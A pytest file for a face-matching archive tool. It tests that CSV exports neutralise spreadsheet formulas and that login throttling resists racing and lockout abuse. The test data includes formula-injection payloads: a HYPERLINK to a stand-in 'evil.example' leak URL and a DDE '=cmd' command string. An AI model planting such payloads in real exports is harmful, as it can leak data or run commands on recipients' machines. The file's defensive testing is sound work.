"""Issue 22, the library's part: CSV exports that no spreadsheet runs as formulas, logins that cannot be raced
or used to lock someone out, every family fact and reviewer note encrypted and bound to its case, the passphrase
kept out of every process environment, and uploads that cannot exhaust the server's memory.

Real index (the demo archive with its records, sface), real SQLite files, real child processes; no mocks.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from facematch import csvcells, demo, report
from facematch.index import Index
from facematch.indexing import index_folder
from facematch.review import Review
from facematch.search import Searcher

PW = "correct horse battery"
FORMULA = '=HYPERLINK("https://evil.example/?leak","open me")'
FILE_FORMULA = '=HYPERLINK("evil.example","open me")'  # a file name has no slash


@pytest.fixture(scope="module")
def demo_index(tmp_path_factory) -> Path:
    """The demo archive with its records, plus a copy of one photo under a file name that is a formula (a leaked
    archive's file names are whatever the leaker chose)."""
    idx = tmp_path_factory.mktemp("hard") / "index"
    gallery = demo.build_gallery(idx / "photos")
    shutil.copyfile(gallery / "obama.jpg", gallery / f"{FILE_FORMULA}.jpg")
    index_folder(gallery, idx, "sface", workers=1, records_csv=demo.records_csv(), progress=False)
    return idx


def copy_of(idx: Path, dest: Path) -> Path:
    shutil.copytree(idx, dest, ignore=shutil.ignore_patterns("*-wal", "*-shm"))
    return dest


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("# "))))
    return [c for r in rows for c in r if csvcells.cell(c) != c]


# -- 9: CSV formula injection ------------------------------------------------------------------------
def test_csv_cells_are_never_formulas():
    for payload in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", FORMULA):
        assert csvcells.cell(payload) == "'" + payload
    for harmless in ("-0.1234", "+3", "12", "1e-5", "Qurban = brother", "", 3, -0.5, None):
        assert csvcells.cell(harmless) == harmless


def test_audit_and_cross_check_exports_write_no_formula(demo_index, tmp_path):
    from facematch.crosscheck import SAME, CrossCheck, export
    from facematch.crosscheck.run import link

    idx = copy_of(demo_index, tmp_path / "index")
    with Searcher(idx) as s:
        rv = Review(s.index)
        case = rv.create_case("=cmd|' /C calc'!A0", "@SUM(A1)", notes="-2+3")
        cands = s.search([s.detect_file(demo.query_photo()).pick()], k=11)
        target = next(c for c in cands if c.face.relpath.startswith("=HYPERLINK"))
        rv.decide(case.id, target, "confirm", "@SUM(A1)", note=FORMULA, shown=["+1+1", "-2-2"])
        rv.decide(case.id, cands[0], "reject", "Ayse", note="-0.5")  # a note that is a number stays as typed
        audit = report.audit_csv(rv, case.id)
    assert FORMULA.replace('"', '""') in audit  # the note is there, as text
    assert formula_cells(audit) == [], formula_cells(audit)
    assert "'@SUM(A1)" in audit and "'=HYPERLINK" in audit and ",-0.5," in audit

    link(idx, progress=False)
    with Index.open(idx) as index:
        cc = CrossCheck(index)
        pair = next(p for p in cc.pairs() + cc.duplicates() if "=HYPERLINK" in p.a.relpath + p.b.relpath)
        cc.decide(pair, SAME, "+reviewer", why=FORMULA)
        written = export(cc, tmp_path / "out")
    csvs = {name: path.read_text(encoding="utf-8") for name, path in written.items() if name.endswith(".csv")}
    assert FORMULA.replace('"', '""') in csvs["decisions.csv"]
    for name, text in csvs.items():
        assert formula_cells(text) == [], (name, formula_cells(text))


# -- 3 and 4: logins that cannot be raced, and cannot be used to lock someone out ---------------------
@pytest.fixture
def accounts_index(tmp_path) -> Path:
    from facematch.access import Accounts

    idx = tmp_path / "accounts"
    with Index.open(idx, create=True) as index:
        Accounts(index.db).add("admin", "admin", PW)
    return idx


def parallel_logins(idx: Path, passwords: list[str], address: str | None = None) -> list[str]:
    """Every password tried for `admin` at the same moment, one thread each (as browser sessions are): what each
    was answered ('in' for a login)."""
    import threading

    from facematch.access import Accounts, LoginRefused

    answers: list[str] = []
    with Index.open(idx) as index:
        accounts = Accounts(index.db)
        start = threading.Barrier(len(passwords))

        def attempt(password: str) -> None:
            start.wait()
            try:
                accounts.authenticate("admin", password, address=address)
                answers.append("in")
            except LoginRefused as e:
                answers.append(str(e))

        threads = [threading.Thread(target=attempt, args=(p,)) for p in passwords]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    return answers


def test_parallel_wrong_passwords_are_judged_at_most_the_limit(accounts_index):
    from facematch import access
    from facematch.access import Accounts

    wrong = [f"wrong guess number {i}" for i in range(12)]
    answers = parallel_logins(accounts_index, wrong)
    judged = answers.count("Wrong name or password.")
    assert judged == access.MAX_FAILURES, answers  # 12 before the fix, and the stored count was 1
    assert all(a.startswith("Too many failed logins") for a in answers if a != "Wrong name or password.")
    with Index.open(accounts_index) as index:  # what was judged is what is counted
        assert round(Accounts(index.db).throttle_of("admin")["failures"]) == access.MAX_FAILURES
        Accounts(index.db).enable("admin")
    # 11 wrong guesses and the right password at once, from one address: still at most the limit judged
    answers = parallel_logins(accounts_index, [*wrong[:11], PW], address="203.0.113.7")
    assert answers.count("Wrong name or password.") <= access.MAX_FAILURES, answers


def test_wrong_tries_slow_guessing_but_lock_no_one_out(accounts_index, capsys):
    from facematch import access
    from facematch.access import Accounts, LoginRefused, LoginThrottled
    from facematch.cli import main

    t = 1_900_000_000.0
    with Index.open(accounts_index) as index:
        accounts = Accounts(index.db)
        # someone who knows only the name tries five times, then once every 15 minutes (the old code locked the
        # name for good this way: five locked it for 15 minutes, and every failure after that locked it again);
        # the owner, a minute after each try, gets in every time
        for _ in range(access.MAX_FAILURES):
            with pytest.raises(LoginRefused, match="Wrong name or password"):
                accounts.authenticate("admin", "a wrong guess here", now=t - 10)
        for k in range(1, 9):
            with pytest.raises(LoginRefused, match="Wrong name or password"):
                accounts.authenticate("admin", "a wrong guess here", now=t + k * 901)
            assert accounts.authenticate("admin", PW, now=t + k * 901 + 60).name == "admin"
        # a burst from one address: at most the limit judged, then each try waits longer than the last
        t += 200_000
        judged, waits = 0, []
        for i in range(40):
            try:
                accounts.authenticate("admin", f"burst guess {i}", now=t + i * 0.01, address="198.51.100.9")
            except LoginThrottled as e:
                waits.append(e.wait)
            except LoginRefused:
                judged += 1
        assert judged == access.MAX_FAILURES and len(waits) == 40 - judged
        # the owner from another address gets in at once; from the burst's address after its wait
        assert accounts.authenticate("admin", PW, now=t + 0.5, address="192.0.2.44").name == "admin"
        with pytest.raises(LoginThrottled):
            accounts.authenticate("admin", PW, now=t + 1, address="198.51.100.9")
        assert accounts.authenticate("admin", PW, now=t + 0.5 + access.DELAY_BASE, address="198.51.100.9")
        # sustained guessing from one address, each try as soon as allowed: the waits double up to the cap
        guesses, clock, judged_at = 0, t + 100, 0.0
        while clock < t + 100 + 3 * 3600:
            try:
                accounts.authenticate("admin", "slow guess", now=clock, address="198.51.100.9")
            except LoginThrottled as e:
                clock += e.wait
                continue
            except LoginRefused:
                guesses, judged_at = guesses + 1, clock
        assert guesses < 35, guesses  # about one every ten minutes, once the waits have grown
        state = accounts.throttle_of("admin", now=judged_at)
        assert state["addresses"] == 1 and state["wait"] > 5 * 60, state
    assert main(["users", "list", "--index", str(accounts_index)]) == 0
    listed = capsys.readouterr().out
    assert "failed logins lately" in listed and "facematch users enable admin" in listed
    assert "198.51.100.9" not in (accounts_index / "facematch.sqlite").read_bytes().decode("latin-1")
    assert main(["users", "enable", "admin", "--index", str(accounts_index)]) == 0
    with Index.open(accounts_index) as index:
        assert Accounts(index.db).throttle_of("admin") is None
    assert "failed logins lately" not in (capsys.readouterr(), main(["users", "list", "--index", str(accounts_index)]),
                                 capsys.readouterr().out)[2]  # fmt: skip


def test_schema_7_carries_the_old_failure_counts_over(accounts_index):
    import sqlite3

    from facematch.access import Accounts, LoginThrottled

    con = sqlite3.connect(accounts_index / "facematch.sqlite")
    con.executescript(
        """DROP TABLE login_throttle;
           CREATE TABLE login_failures (name TEXT PRIMARY KEY COLLATE NOCASE, failures INTEGER NOT NULL,
                                        last_failure REAL NOT NULL, locked_until REAL NOT NULL DEFAULT 0);
           INSERT INTO login_failures VALUES ('Admin', 5, 1900000000.0, 1900000900.0);
           UPDATE meta SET value = '6' WHERE key = 'schema_version';"""
    )
    con.close()
    with Index.open(accounts_index) as index:
        assert index.db.get_meta("schema_version") == "7"
        assert index.db.one("SELECT COUNT(*) FROM sqlite_master WHERE name = 'login_failures'") == 0
        with pytest.raises(LoginThrottled):  # the old lock is a wait now, still on
            Accounts(index.db).authenticate("admin", PW, now=1_900_000_100.0)
        assert Accounts(index.db).authenticate("admin", PW, now=1_900_000_901.0).name == "admin"
